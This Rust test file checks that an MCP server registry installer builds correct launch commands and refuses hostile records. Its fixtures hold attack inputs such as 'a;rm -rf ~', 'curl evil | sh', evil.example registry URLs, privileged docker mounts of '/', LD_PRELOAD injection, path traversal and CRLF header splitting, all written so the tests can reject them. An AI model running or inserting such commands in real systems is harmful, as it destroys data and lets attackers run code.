//! From real records, and from records that attack, to entries.

use std::collections::BTreeMap;

use serde_json::{Value, json};

use crate::contract::registry::{InputKind, RegistryServer};
use crate::registries::entry::{Answers, BuildError, Built, Missing, build, server_name};
use crate::registries::options::describe;
use crate::registries::record::Record;

fn real(name: &str) -> Record {
    let all: Vec<Value> = serde_json::from_str(include_str!("../../tests/data/registry/servers.json")).unwrap();
    let records: Vec<Record> = all.iter().map(|item| Record::read(item).unwrap()).collect();
    records.into_iter().find(|record| record.name.ends_with(name)).unwrap()
}

fn package(package: Value) -> Record {
    let mut package = package;
    let fields = package.as_object_mut().unwrap();
    fields.entry("transport").or_insert(json!({"type": "stdio"}));
    Record::read(&json!({"name": "a.b/c", "packages": [package]})).unwrap()
}

fn remote(remote: Value) -> Record {
    Record::read(&json!({"name": "a.b/c", "remotes": [remote]})).unwrap()
}

fn answers(env: &[(&str, &str)], headers: &[(&str, &str)], args: &[(&str, &str)]) -> Answers {
    let map = |pairs: &[(&str, &str)]| pairs.iter().map(|(a, b)| ((*a).to_owned(), (*b).to_owned())).collect();
    let mut lists = BTreeMap::<String, Vec<String>>::new();
    for (name, value) in args {
        lists.entry((*name).to_owned()).or_default().push((*value).to_owned());
    }
    Answers {
        env: map(env),
        headers: map(headers),
        args: lists,
    }
}

fn built(record: &Record, option: Option<&str>, answers: &Answers) -> Result<Built, BuildError> {
    build(record, option, None, answers, false)
}

fn line(built: &Built) -> String {
    let args = built.entry["args"].as_array().unwrap().iter().map(|arg| arg.as_str().unwrap().to_owned());
    [built.entry["command"].as_str().unwrap().to_owned()].into_iter().chain(args).collect::<Vec<_>>().join(" ")
}

fn reason(record: &Record) -> String {
    describe(record, "r").options[0].unsupported.clone().unwrap_or_default()
}

#[test]
fn real_records_become_the_commands_that_their_publishers_mean() {
    let none = Answers::default();
    for (name, option, answers, expected) in [
        ("/playwright-mcp", None, &none, "npx -y @playwright/mcp@0.1.0"),
        ("/context7", None, &none, "npx -y @upstash/context7-mcp@1.0.26"),
        ("/time-mcp-pypi", None, &none, "uvx time-mcp-pypi@1.0.6"),
        ("/time-mcp-nuget", None, &none, "dnx TimeMcpServer@1.0.8 --yes"),
        ("/mcp-redis", Some("oci"), &none, "docker run -i --rm docker.io/mcp/redis:latest"),
        ("/exa-mcp-server", None, &none, "npx -y exa-mcp-server@3.2.0"),
        ("/pagerduty-mcp", None, &none, "uvx pagerduty-mcp@0.2.1 --enable-write-tools --disabled-tool-categories"),
        (
            "/github-mcp-server",
            None,
            &answers(&[], &[], &[("token", "s3cret")]),
            "docker run -i --rm -e GITHUB_PERSONAL_ACCESS_TOKEN ghcr.io/github/github-mcp-server:1.0.0",
        ),
        (
            "/terraform-mcp-server",
            None,
            &answers(&[], &[], &[("address", "https://t.example")]),
            "docker run -i --rm -e TFE_ADDRESS docker.io/hashicorp/terraform-mcp-server:1.1.0",
        ),
        (
            "/mcp-grafana",
            None,
            &answers(&[("GRAFANA_URL", "https://g")], &[], &[]),
            "docker run -i --rm -e GRAFANA_URL docker.io/grafana/mcp-grafana:1.0.0",
        ),
        (
            "com.supabase/mcp",
            None,
            &answers(&[("SUPABASE_ACCESS_TOKEN", "s3cret")], &[], &[]),
            "npx -y @supabase/mcp-server-supabase@0.5.10",
        ),
    ] {
        assert_eq!(line(&built(&real(name), option, answers).unwrap()), expected, "{name}");
    }
    let remote = built(&real("/cyphrex-mcp"), None, &none).unwrap();
    assert_eq!(remote.entry["url"], "https://mcp.cyphrex.io/mcp");
    assert_eq!(remote.entry["protocol"], "streamable-http");
    let sse = built(&real("/exa-mcp-server"), Some("remote"), &none).unwrap();
    assert_eq!(sse.entry["protocol"], "sse");
    assert!(sse.entry["url"].as_str().unwrap().ends_with("?tools=web_search_exa,web_search_advanced_exa,crawling_exa"));
}

#[test]
fn secrets_go_into_the_keychain_and_references_stay() {
    let airtable = real("/airtable-mcp-server");
    let with = |value: &str| answers(&[("AIRTABLE_API_KEY", value)], &[], &[]);
    let stored = built(&airtable, None, &with("s3cret")).unwrap();
    assert_eq!(stored.entry["env"]["AIRTABLE_API_KEY"], "${keyring:airtable-mcp-server.AIRTABLE_API_KEY}");
    assert_eq!(stored.secrets, [("airtable-mcp-server.AIRTABLE_API_KEY".to_owned(), "s3cret".to_owned())]);
    assert!(!format!("{stored:?}").contains("s3cret"));
    let referred = built(&airtable, None, &with("${env:AIRTABLE}")).unwrap();
    assert_eq!(referred.entry["env"]["AIRTABLE_API_KEY"], "${env:AIRTABLE}");
    assert!(referred.secrets.is_empty());
    let in_file = build(&airtable, None, Some("x"), &with("s3cret"), true).unwrap();
    assert_eq!((in_file.entry["env"]["AIRTABLE_API_KEY"].as_str(), in_file.secrets.len()), (Some("s3cret"), 0));
    let github = built(&real("/github-mcp-server"), None, &answers(&[], &[], &[("token", "s3cret")])).unwrap();
    assert_eq!(github.entry["env"]["GITHUB_PERSONAL_ACCESS_TOKEN"], "${keyring:github-mcp-server.token}");
    let neon = built(&real("com.neon/mcp"), None, &answers(&[], &[("authorization", "Bearer s3cret")], &[])).unwrap();
    assert_eq!(neon.entry["headers"], json!({"Authorization": "${keyring:neon.Authorization}"}));
}

#[test]
fn missing_required_inputs_are_named() {
    let missing = built(&real("/airtable-mcp-server"), None, &Answers::default()).unwrap_err();
    let BuildError::Missing(Missing(inputs)) = &missing else { panic!("{missing}") };
    assert_eq!((inputs[0].name.as_str(), inputs[0].secret, inputs[0].kind), ("AIRTABLE_API_KEY", true, InputKind::Env));
    assert!(inputs[0].description.contains("Airtable personal access token"));
    assert_eq!(missing.to_string(), "the server needs `AIRTABLE_API_KEY`");
    let shown = describe(&real("/airtable-mcp-server"), "official");
    assert_eq!(shown.required_inputs[0].name, "AIRTABLE_API_KEY");
    let ids: Vec<&str> = shown.options.iter().map(|option| option.id.as_str()).collect();
    assert_eq!(ids, ["npm", "oci", "mcpb"]);
    assert!(shown.options[2].unsupported.as_ref().unwrap().contains(".mcpb"));
    assert_eq!(shown.install_cmd.as_deref(), Some("npx -y airtable-mcp-server@1.7.3"));
}

#[test]
fn arguments_have_names_defaults_choices_and_several_values() {
    let record =
        package(json!({"registryType": "npm", "identifier": "files", "version": "1.0.0", "packageArguments": [
        {"type": "positional", "valueHint": "directory", "isRequired": true, "isRepeated": true},
        {"type": "named", "name": "--mode", "choices": ["read", "write"], "default": "read", "isRequired": true},
        {"type": "named", "name": "--verbose", "format": "boolean"},
        {"type": "named", "name": "--db", "value": "{host}:{port}", "variables": {
            "host": {"isRequired": true}, "port": {"default": "5432", "isRequired": true}}},
        {"type": "positional", "value": "serve"}]}));
    let done = |args: &[(&str, &str)]| built(&record, None, &answers(&[], &[], args));
    let all = [
        ("directory", "/a"),
        ("directory", "/b"),
        ("host", "h"),
        ("verbose", "true"),
        ("mode", "write"),
    ];
    assert_eq!(line(&done(&all).unwrap()), "npx -y files@1.0.0 /a /b --mode write --verbose --db h:5432 serve");
    assert_eq!(
        line(&done(&[("directory", "--x"), ("host", "h")]).unwrap()),
        "npx -y files@1.0.0 --x --mode read --db h:5432 serve"
    );
    let wrong = done(&[("directory", "/a"), ("host", "h"), ("mode", "rm")]).unwrap_err().to_string();
    assert!(wrong.contains("use one of read, write"), "{wrong}");
    assert!(done(&[("directory", "/a"), ("host", "h"), ("host", "i")]).is_err());
    assert!(
        done(&[("directory", "/a"), ("host", "h"), ("other", "i")])
            .unwrap_err()
            .to_string()
            .contains("no argument `other`")
    );
    assert!(matches!(done(&[("host", "h")]), Err(BuildError::Missing(_))));
}

#[test]
fn a_package_that_is_named_like_an_option_or_comes_from_elsewhere_is_refused() {
    for (record, part) in [
        (json!({"registryType": "npm", "identifier": "--yes", "version": "1.0.0"}), "package `--yes`"),
        (json!({"registryType": "npm", "identifier": "a;rm -rf ~", "version": "1.0.0"}), "package"),
        (json!({"registryType": "npm", "identifier": "https://evil.example/x.tgz"}), "package"),
        (json!({"registryType": "npm", "identifier": "a", "version": "latest"}), "version `latest`"),
        (json!({"registryType": "npm", "identifier": "a", "version": "^1.0"}), "version"),
        (
            json!({"registryType": "npm", "identifier": "a", "registryBaseUrl": "https://evil.example"}),
            "another package registry",
        ),
        (json!({"registryType": "pypi", "identifier": "--index-url=https://evil.example"}), "package"),
        (json!({"registryType": "oci", "identifier": "--privileged"}), "image"),
        (json!({"registryType": "oci", "identifier": "a/b", "version": "x -v /:/h"}), "version"),
        (json!({"registryType": "cargo", "identifier": "a"}), "cargo"),
        (
            json!({"registryType": "npm", "identifier": "a", "transport": {"type": "streamable-http", "url": "http://localhost"}}),
            "stdio",
        ),
        (
            json!({"registryType": "npm", "identifier": "a", "environmentVariables": [{"name": "NODE_OPTIONS"}]}),
            "NODE_OPTIONS",
        ),
        (
            json!({"registryType": "npm", "identifier": "a", "environmentVariables": [{"name": "A", "value": "${keyring:github}"}]}),
            "${",
        ),
        (
            json!({"registryType": "npm", "identifier": "a", "environmentVariables": [{"name": "A", "default": "${env:HOME}", "isRequired": true}]}),
            "${",
        ),
        (
            json!({"registryType": "npm", "identifier": "a", "packageArguments": [{"type": "named", "name": "--a b"}]}),
            "argument",
        ),
        (
            json!({"registryType": "npm", "identifier": "a", "packageArguments": [{"type": "positional", "value": "\u{202e}x"}]}),
            "invisible",
        ),
    ] {
        let found = reason(&package(record.clone()));
        assert!(found.contains(part), "{record}: {found}");
    }
}

#[test]
fn options_of_a_package_manager_that_could_do_harm_are_refused() {
    let runtime = |kind: &str, arguments: Value| {
        reason(&package(
            json!({"registryType": kind, "identifier": "a", "version": "1.0.0", "runtimeArguments": arguments}),
        ))
    };
    let fixed = |value: &str| json!([{"type": "positional", "value": value}]);
    let named = |name: &str, value: &str| json!([{"type": "named", "name": name, "value": value}]);
    for refused in [
        runtime("npm", named("--call", "curl evil | sh")),
        runtime("npm", fixed("--package=evil")),
        runtime("pypi", named("--with", "evil")),
        runtime("pypi", named("--from", "evil")),
        runtime("oci", fixed("--privileged")),
        runtime("oci", named("--network", "host")),
        runtime("oci", named("-v", "/:/host")),
        runtime("oci", named("--mount", "type=bind,src=/,dst=/h")),
        runtime("oci", named("-e", "LD_PRELOAD=/x")),
        reason(&package(json!({"registryType": "npm", "identifier": "a", "runtimeHint": "bash",
            "runtimeArguments": [{"type": "named", "name": "-c", "value": "x"}]}))),
        reason(&real("/serena")),
    ] {
        assert!(!refused.is_empty());
    }
    for allowed in [
        runtime("npm", fixed("-y")),
        runtime("pypi", fixed("--from")),
        runtime("pypi", named("--from", "a==1.0.0")),
        runtime("pypi", named("--python", "3.13")),
        runtime("oci", json!([{"type": "positional", "value": "-e"}, {"type": "positional", "value": "A=b"}])),
    ] {
        assert_eq!(allowed, "");
    }
    let mounted = package(json!({"registryType": "oci", "identifier": "mcp/filesystem", "version": "1.0.2",
        "runtimeArguments": [{"type": "named", "name": "--mount", "value": "type=bind,src={source},dst={target}",
            "isRequired": true, "variables": {"source": {"isRequired": true}, "target": {"default": "/project"}}}]}));
    let built = built(&mounted, None, &answers(&[], &[], &[("source", "/home/me/x")])).unwrap();
    assert_eq!(line(&built), "docker run -i --rm --mount type=bind,src=/home/me/x,dst=/project mcp/filesystem:1.0.2");
    for (flag, value, source, target) in [
        ("--mount", "type=bind,src={source},dst={target}", json!({"default": "/"}), json!({})),
        ("--mount", "type=bind,src={source}/../..,dst={target}", json!({}), json!({})),
        ("--mount", "type=bind,src={source},dst={target},src=/", json!({}), json!({})),
        ("--mount", "type=bind,src={source},dst={target}", json!({}), json!({"default": "/h,src=/"})),
        ("--mount", "type=bind,src={source},dst={target}", json!({"value": "/"}), json!({})),
        ("-v", "{source}:/h", json!({"default": "/"}), json!({})),
        ("-v", "{source}/..:/h", json!({}), json!({})),
        ("-v", "{source}{target}:/h", json!({}), json!({"default": "/.."})),
    ] {
        let arguments = json!([{"type": "named", "name": flag, "value": value, "isRequired": true,
            "variables": {"source": source, "target": target}}]);
        assert!(runtime("oci", arguments.clone()).contains("cannot choose"), "{arguments}");
    }
    let program = package(json!({"registryType": "pypi", "identifier": "a", "version": "1.0.0",
        "runtimeArguments": fixed("--from"), "packageArguments": fixed("a-mcp")}));
    assert_eq!(line(&self::built(&program, None, &Answers::default()).unwrap()), "uvx --from a==1.0.0 a-mcp");
}

#[test]
fn a_remote_keeps_its_host_whatever_is_filled_in() {
    let tenant = remote(json!({"type": "streamable-http", "url": "https://{tenant}.example.com/mcp",
        "variables": {"tenant": {"description": "Your tenant"}}}));
    let url = |record: &Record, value: &str| built(record, None, &answers(&[], &[], &[("tenant", value)]));
    assert_eq!(url(&tenant, "acme").unwrap().entry["url"], "https://acme.example.com/mcp");
    for bad in ["evil.example/", "evil.example#", "u@evil", "a b", "x?y", "a\\b", "a%2f"] {
        assert!(url(&tenant, bad).is_err(), "{bad}");
    }
    assert!(matches!(built(&tenant, None, &Answers::default()), Err(BuildError::Missing(_))));
    let own = remote(json!({"type": "sse", "url": "{tenant}/sse", "variables": {"tenant": {}}}));
    assert_eq!(url(&own, "https://my.host:8443").unwrap().entry["url"], "https://my.host:8443/sse");
    assert!(url(&own, "http://my.host").is_err());
    for (bad, part) in [
        (json!({"type": "streamable-http", "url": "http://h/mcp"}), "HTTPS"),
        (json!({"type": "streamable-http", "url": "https://u:p@h/"}), "user name"),
        (json!({"type": "streamable-http", "url": "https://h/${keyring:x}"}), "invalid"),
        (json!({"type": "stdio", "url": "https://h/"}), "transport"),
        (json!({"type": "sse", "url": "https://h/", "headers": [{"name": "Host", "value": "x"}]}), "Host"),
        (json!({"type": "sse", "url": "https://h/", "headers": [{"name": "A", "value": "${env:SECRET}"}]}), "${"),
    ] {
        assert!(reason(&remote(bad.clone())).contains(part), "{bad}: {}", reason(&remote(bad.clone())));
    }
    let header = remote(
        json!({"type": "sse", "url": "https://h/", "headers": [{"name": "Authorization", "value": "Bearer {key}",
        "isRequired": true, "variables": {"key": {"isSecret": true}}}]}),
    );
    let done = built(&header, None, &answers(&[], &[], &[("key", "s3cret")])).unwrap();
    assert_eq!(done.entry["headers"]["Authorization"], "Bearer ${keyring:c.key}");
    for split in [
        answers(&[], &[("X", "a\r\nEvil: 1")], &[("key", "k")]),
        answers(&[], &[], &[("key", "k\r\nEvil: 1")]),
    ] {
        assert!(build(&header, None, None, &split, true).is_err());
    }
}

#[test]
fn texts_of_a_record_cannot_become_a_reference_when_they_are_joined() {
    for (value, variables) in [
        ("{a}{env:SECRET}", json!({"a": {"value": "$"}})),
        ("{a}{env:SECRET}", json!({"a": {"default": "$"}})),
        ("{a}{b}", json!({"a": {"default": "$"}, "b": {"default": "{env:SECRET}"}})),
    ] {
        let field = json!({"name": "A", "value": value, "isRequired": true, "variables": variables});
        let header = remote(json!({"type": "sse", "url": "https://h/", "headers": [field]}));
        let variable = package(json!({"registryType": "npm", "identifier": "a", "environmentVariables": [field]}));
        let argument = json!({"type": "positional", "value": value, "isRequired": true, "variables": variables});
        let argument = package(json!({"registryType": "npm", "identifier": "a", "packageArguments": [argument]}));
        for record in [header, variable, argument] {
            let refused = built(&record, None, &Answers::default()).unwrap_err().to_string();
            assert!(refused.contains("${"), "{value} {variables}: {refused}");
        }
    }
    let field = json!({"name": "A", "value": "Bearer {key}", "variables": {"key": {}}});
    let header = remote(json!({"type": "sse", "url": "https://h/", "headers": [field]}));
    let own = built(&header, None, &answers(&[], &[], &[("key", "${env:KEY}")])).unwrap();
    assert_eq!(own.entry["headers"]["A"], "Bearer ${env:KEY}", "the user may refer to secrets");
}

#[test]
fn a_text_that_is_too_long_is_refused_before_it_is_read() {
    let long = remote(json!({"type": "sse", "url": format!("https://h/{}", "{".repeat(100_000))}));
    assert!(reason(&long).contains("too long"), "{}", reason(&long));
}

#[test]
fn a_variable_that_the_user_adds_is_kept_and_its_case_matters() {
    let record =
        package(json!({"registryType": "npm", "identifier": "a", "environmentVariables": [{"name": "TOKEN"}]}));
    let own = built(&record, None, &answers(&[("token", "x")], &[], &[])).unwrap();
    assert_eq!(own.entry["env"], json!({"token": "x"}));
}

#[test]
fn a_server_is_named_after_what_says_something() {
    for (name, expected) in [
        ("io.github.domdomegg/airtable-mcp-server", "airtable-mcp-server"),
        ("com.supabase/mcp", "supabase"),
        ("io.github.mapbox/mcp-server", "mapbox"),
        ("a.b/c.d", "c-d"),
        ("a./mcp", "mcp"),
    ] {
        assert_eq!(server_name(name), expected);
    }
}

#[test]
fn nothing_in_a_description_reaches_the_terminal_unescaped() {
    let record = Record::read(&json!({"name": "a.b/c", "title": "\u{1b}[2J", "description": "x\u{1b}]0;y\u{7}",
        "packages": [{"registryType": "\u{1b}[31m", "identifier": "a", "transport": {"type": "stdio"}}]}))
    .unwrap();
    let shown: RegistryServer = describe(&record, "r");
    let text = serde_json::to_string(&shown).unwrap();
    assert!(!text.contains("\\u001b"), "{text}");
    assert_eq!(shown.options[0].id, "other");
}
